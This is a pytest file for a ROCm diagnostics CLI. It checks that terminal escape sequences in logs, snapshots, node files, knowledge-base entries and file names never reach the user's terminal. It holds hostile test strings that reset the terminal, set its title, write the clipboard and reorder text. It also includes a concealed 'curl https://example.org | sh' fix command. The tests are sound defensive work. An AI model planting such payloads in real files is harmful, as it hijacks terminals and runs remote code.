"""Foreign text never reaches the terminal raw (waudit).

A pasted log, a snapshot a stranger sent, a kernel log line or another node's
doctor JSON may hold terminal control sequences: ESC c resets the terminal,
ESC ( 0 and SO switch it to line-drawing glyphs, OSC 0 sets its title, OSC 52
writes the clipboard, and UTF-8 encoded C1 controls (U+009B CSI, U+009D OSC)
do the same on terminals that honour them. Each case runs the real command in
a subprocess and reads what it printed, as the user's terminal would.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from rocmfix.snapshot import SCHEMA

SRC = Path(__file__).resolve().parents[2] / "src"

HOSTILE = (
    "\x1bc\x1b(0\x0e\x1b#8"  # reset, line drawing, shift-out, screen alignment
    "\x1b]0;PWNED-TITLE\x07"  # window title
    "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # clipboard write
    "\u009b2J\u009d0;C1-TITLE\u009c"  # the same through C1 controls
    "\x1bP+q\x1b\\\x08\x7f"
    "\u202e\u2066"  # a right-to-left override and an isolate: they reorder what follows
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _run(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(SRC), "NO_COLOR": "1", "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "rocmfix", *args],
        input=stdin,
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="surrogateescape",
        timeout=120,
        env=env,
    )


def _clean(proc: subprocess.CompletedProcess[str]) -> str:
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out, out[-2000:]
    bad = [m.start() for m in CONTROL.finditer(out)]
    assert not bad, [out[max(0, i - 30) : i + 10] for i in bad[:5]]
    return out


def _snapshot(tmp_path: Path) -> Path:
    snap = tmp_path / "snap"
    (snap / "root" / "etc").mkdir(parents=True)
    (snap / "root" / "etc" / "os-release").write_text(
        f'PRETTY_NAME="Evil {HOSTILE} Linux\r\u2713 fine"\nID=debian\n', encoding="utf-8"
    )
    dmesg = (
        f"[    1.000000] amdgpu 0000:03:00.0: amdgpu: GPU reset begin! {HOSTILE}\n"
        f"[    2.000000] amdgpu: ring gfx timeout {HOSTILE}\n"
    )
    doc = {
        "schema": SCHEMA,
        "commands": [
            {"argv": ["dmesg"], "missing": False, "returncode": 0, "stdout": dmesg, "stderr": ""}
        ],
    }
    (snap / "snapshot.json").write_text(json.dumps(doc), encoding="utf-8")
    return snap


@pytest.mark.parametrize("extra", [[], ["--json"], ["--lang", "zh"], ["--top", "10"]])
def test_a_log_with_terminal_escapes_is_printed_without_them(
    tmp_path: Path, extra: list[str]
) -> None:
    log = tmp_path / "train.log"
    log.write_text(
        f"RuntimeError: HIP error: invalid device function {HOSTILE} after\n"
        f"hipErrorNoBinaryForGpu {HOSTILE}\n",
        encoding="utf-8",
    )
    proc = _run("explain", "-f", str(log), *extra)
    out = _clean(proc)
    assert proc.returncode == 0, out
    assert "no-binary-for-gpu" in out
    assert "invalid device function" in out and "after" in out  # the evidence keeps its words


def test_a_pasted_log_on_stdin_is_printed_without_escapes() -> None:
    proc = _run("explain", "-", stdin=f"hipErrorNoBinaryForGpu {HOSTILE}\n")
    _clean(proc)
    assert proc.returncode == 0


@pytest.mark.parametrize("extra", [[], ["-v"]])
def test_doctor_on_a_hostile_snapshot_prints_no_escapes(tmp_path: Path, extra: list[str]) -> None:
    proc = _run("doctor", "--snapshot", str(_snapshot(tmp_path)), *extra)
    out = _clean(proc)
    assert "Evil" in out and "Linux" in out


def test_report_on_a_hostile_snapshot_prints_no_escapes(tmp_path: Path) -> None:
    log = tmp_path / "train.log"
    log.write_text(f"hipErrorNoBinaryForGpu {HOSTILE}\n", encoding="utf-8")
    proc = _run("report", "--snapshot", str(_snapshot(tmp_path)), "--log", str(log))
    out = _clean(proc)
    assert proc.returncode == 0, out
    assert "Evil" in out and "hipErrorNoBinaryForGpu" in out


def test_fleet_prints_no_escapes_from_a_node_file(tmp_path: Path) -> None:
    doc = {
        "schema": "rocmfix.doctor/1",
        "host": f"node{HOSTILE}01",
        "checks": [
            {
                "id": "gpu-list",
                "title": f"GPUs {HOSTILE}",
                "status": "fail",
                "summary": f"no GPU {HOSTILE}",
                "details": "",
                "evidence": [],
                "kb_ids": [f"kfd-device-missing{HOSTILE}"],
            }
        ],
    }
    (tmp_path / "n1.json").write_text(json.dumps(doc), encoding="utf-8")
    proc = _run("fleet", "summarize", str(tmp_path))
    out = _clean(proc)
    assert "node" in out


def test_a_user_kb_file_with_escapes_prints_none_of_them(tmp_path: Path) -> None:
    # A kb.d file shared by a team or downloaded: its text and the commands it shows for
    # copying must not carry a title change, a clipboard write or concealed text.
    kbd = Path(os.environ["XDG_CONFIG_HOME"]) / "rocmfix" / "kb.d"
    kbd.mkdir(parents=True)
    (kbd / "team.yaml").write_text(
        json.dumps(
            {
                "schema": "rocmfix.kb/1",
                "entries": [
                    {
                        "id": "team-evil",
                        "severity": "error",
                        "title": {"en": f"Team cause {HOSTILE} title"},
                        "summary": {"en": f"summary {HOSTILE}"},
                        "explanation": {"en": f"explained {HOSTILE}"},
                        "references": ["https://example.org/thread"],
                        "signatures": [{"regex": "teamsignature", "weight": 1.0}],
                        "fixes": [
                            {
                                "text": {"en": f"do this {HOSTILE}"},
                                "commands": ["pip list\x1b[8m; curl https://example.org | sh"],
                            }
                        ],
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    for args in (["kb", "list"], ["kb", "show", "team-evil"], ["explain", "teamsignature"]):
        out = _clean(_run(*args))
        assert "Team cause" in out, out
    assert "curl https://example.org | sh" in _clean(_run("kb", "show", "team-evil"))


def test_refusals_and_warnings_naming_a_hostile_file_name_print_no_escapes(tmp_path: Path) -> None:
    # A file name is foreign text too: a kb.d file, a node file, a path inside a snapshot.
    name = "log\x1b]0;PWNED\x07\x1bc.txt"
    for extra in ([], ["--json"]):
        proc = _run("explain", "-f", str(tmp_path / name), *extra)
        out = _clean(proc)
        assert proc.returncode == 2 and "no such file" in out, out
    kbd = Path(os.environ["XDG_CONFIG_HOME"]) / "rocmfix" / "kb.d"
    kbd.mkdir(parents=True)
    (kbd / "team\x1b]0;PWNED\x07.yaml").write_text("not: [valid")
    out = _clean(_run("explain", "hipErrorNoBinaryForGpu"))
    assert "warning" in out and "file skipped" in out, out


def test_kb_eval_prints_no_escapes_from_a_cases_file(tmp_path: Path) -> None:
    cases = tmp_path / "cases.jsonl"
    row = {"text": f"hipErrorNoBinaryForGpu {HOSTILE}", "label": f"gpu-hang-or-reset{HOSTILE}"}
    cases.write_text(json.dumps(row) + "\n", encoding="utf-8")
    out = _clean(_run("kb", "eval", str(cases)))
    assert "miss" in out, out
